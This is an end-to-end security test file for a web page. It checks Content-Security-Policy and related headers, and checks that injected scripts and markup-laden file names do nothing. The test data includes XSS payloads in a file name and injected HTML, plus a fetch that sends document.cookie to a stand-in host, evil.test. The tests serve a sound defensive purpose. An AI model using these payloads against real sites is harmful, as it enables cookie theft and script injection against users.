"""What the page withstands: foreign scripts in it, names that are markup, and pages that would frame it."""

from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import Visitor

pytestmark = pytest.mark.stack

REJECTED_WITHIN_MS = 20_000
GETS_AROUND_MS = 500  # more than a script that may run needs
MARKUP = '"><img src=x onerror="window.hacked=1"><script>window.hacked=1<&script>.mp4'
INJECT = """async () => {
  const script = document.createElement("script");
  script.textContent = "window.hacked = 1";
  document.body.append(script);
  const foreign = document.createElement("script");
  foreign.src = "https://evil.test/steal.js";
  document.body.append(foreign);
  const box = document.createElement("div");
  box.innerHTML = '<img src="/nowhere.png" onerror="window.hacked = 1"><iframe src="https://evil.test"></iframe>';
  document.body.append(box);
  const violations = [];
  document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
  const sent = await fetch("https://evil.test/?" + document.cookie).then(() => true, () => false);
  await new Promise((done) => setTimeout(done, %d));
  return { sent, hacked: window.hacked ?? null, violations };
}"""


def test_the_page_comes_with_its_security_headers(stack: dict[str, Any]) -> None:
    site = urlsplit(stack["web"])
    answer = httpx.get(f"http://127.0.0.1:{site.port}/", headers={"host": site.netloc}, trust_env=False)
    policy = dict(part.split(" ", 1) for part in answer.headers["content-security-policy"].split("; "))
    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == policy["frame-ancestors"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == "'self'"
    assert "*" not in policy["connect-src"] + policy["media-src"]
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["cross-origin-opener-policy"] == "same-origin"
    assert "max-age=31536000" in answer.headers["strict-transport-security"]
    assert "camera=()" in answer.headers["permissions-policy"]


def test_a_script_that_gets_into_the_page_does_nothing(visit: Visitor) -> None:
    one = visit()
    expect(one.page.locator("input[type=file]")).to_be_attached()
    found = one.page.evaluate(INJECT % GETS_AROUND_MS)
    assert (found["sent"], found["hacked"]) == (False, None)
    assert "connect-src" in found["violations"]
    said = " ".join(one.console)
    for directive in ("script-src", "connect-src"):
        assert directive in said
    one.console.clear()


def test_a_file_name_is_text_whatever_it_holds(visit: Visitor, tmp_path: Path) -> None:
    path = tmp_path / MARKUP
    path.write_bytes(b"this is no video\n" * 50)
    page = visit().page
    page.set_input_files("input[type=file]", path)
    expect(page.locator("article h3")).to_have_text(MARKUP)
    expect(page.get_by_text("NOT_A_VIDEO")).to_be_visible(timeout=REJECTED_WITHIN_MS)
    assert page.evaluate("window.hacked ?? null") is None
